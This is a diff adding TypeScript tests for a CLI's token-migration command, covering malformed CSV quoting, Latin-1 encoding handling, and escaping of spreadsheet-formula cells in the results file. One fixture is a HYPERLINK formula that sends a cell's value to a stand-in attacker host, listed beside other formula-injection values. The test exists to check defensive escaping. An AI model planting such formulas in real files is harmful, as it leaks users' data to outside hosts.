@@ -240,6 +240,26 @@ const cases: Case[] = [
     stderr: ['The CSV is malformed near row 3', 'Quote Not Closed', 'hint: Check the quoting and the delimiter (--delimiter).'],
   },
   {
+    name: 'a quote in the middle of a field is a usage error naming the row, like an unclosed one',
+    csv: lines(H, ok('Acme', 'e1'), 'Bo"lt,e2,gbol,a,r,t', ok('Core', 'e3')),
+    code: 2,
+    stderr: ['The CSV is malformed near row 3', 'Invalid Opening Quote', 'hint: Check the quoting and the delimiter (--delimiter).'],
+  },
+  {
+    name: 'a Latin-1 file stops at its first byte that is not UTF-8, naming the line and offset',
+    csv: Buffer.concat([Buffer.from(lines(H, ok('Acme', 'e1'))), Buffer.from('Caf\xe9 Ltd,e2,gbol,a,r,t\n', 'latin1')]),
+    code: 2,
+    stderr: [`Line 3 is not valid UTF-8 (byte offset ${Buffer.byteLength(lines(H, ok('Acme', 'e1'))) + 3})`, 'hint: Give --encoding latin1, or save the file as UTF-8.'],
+  },
+  {
+    name: '--encoding latin1 reads a Latin-1 file without losing a character',
+    csv: Buffer.from(lines(H, 'Caf\xe9 Ltd,e1,gbol,a,r,t', '\xc5ngstr\xf6m AB,e2,gbol,a,r,t'), 'latin1'),
+    args: ['--encoding', 'latin1'],
+    code: 0,
+    valid: [2, 3],
+    results: { 2: { companyName: 'Café Ltd' }, 3: { companyName: 'Ångström AB' } },
+  },
+  {
     name: 'an empty file is a usage error',
     csv: '',
     code: 2,
@@ -313,6 +333,42 @@ describe('migrate tokens: malformed and awkward CSVs (--dry-run)', () => {
     }
     // A dry run writes no journal and creates nothing.
     expect(() => readFileSync(`${results}.journal`)).toThrow();
+  });
+});
+
+describe('migrate tokens: CSV cells a spreadsheet would run', () => {
+  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+  const names = [FORMULA, '-Acme', '@SUM(1+1)', '+44 Ltd', '-12.50'];
+  const input = async (seed: number) => {
+    const tenants = await makeTenants(harness.sandboxUrl, names.length, { seed });
+    return { tenants, csv: tokensCsv(tenants.map((t, i) => ({ ...t, name: names[i]! }))) };
+  };
+
+  it('neutralises them in the results file; a rerun finds the same companies; --no-csv-escape keeps them raw', async () => {
+    const { csv } = await input(7501);
+    const path = writeInput('formulas', csv);
+    const results = join(dir, 'formulas.results.csv');
+    const run = await ferry([...target(), 'migrate', 'tokens', path, '--yes', '--results', results]);
+    expect(run.code, run.stderr).toBe(0);
+    const rows = byRow(readResults(results));
+    expect([2, 3, 4, 5, 6].map((r) => rows.get(r)!.companyName)).toEqual([`'${FORMULA}`, "'-Acme", "'@SUM(1+1)", "'+44 Ltd", '-12.50']);
+    for (const r of [2, 3, 4, 5, 6]) expect(rows.get(r)!.status).toBe('migrated');
+
+    const again = await ferry([...target(), 'migrate', 'tokens', path, '--yes', '--results', results, '--no-csv-escape']);
+    expect(again.code, again.stderr).toBe(0);
+    const raw = byRow(readResults(results));
+    expect([2, 3, 4, 5, 6].map((r) => raw.get(r)!.companyName)).toEqual(names);
+    const ids = [2, 3, 4, 5, 6].map((r) => raw.get(r)!.companyId);
+    expect(ids).toEqual([2, 3, 4, 5, 6].map((r) => rows.get(r)!.companyId));
+  });
+
+  it('says no "Next: ferry sync" when no row migrated', async () => {
+    const path = writeInput('none-migrated', lines(H, `Acme,e-none-1,gbol,${'a'.repeat(9000)},r,t`));
+    const results = join(dir, 'none-migrated.results.csv');
+    const run = await ferry([...target(), 'migrate', 'tokens', path, '--yes', '--results', results]);
+    expect(run.code).toBe(3);
+    expect(run.stderr).not.toContain('ferry sync');
+    expect(run.stderr).toContain(`Next: fix the rows listed in ${results}`);
   });
 });
 
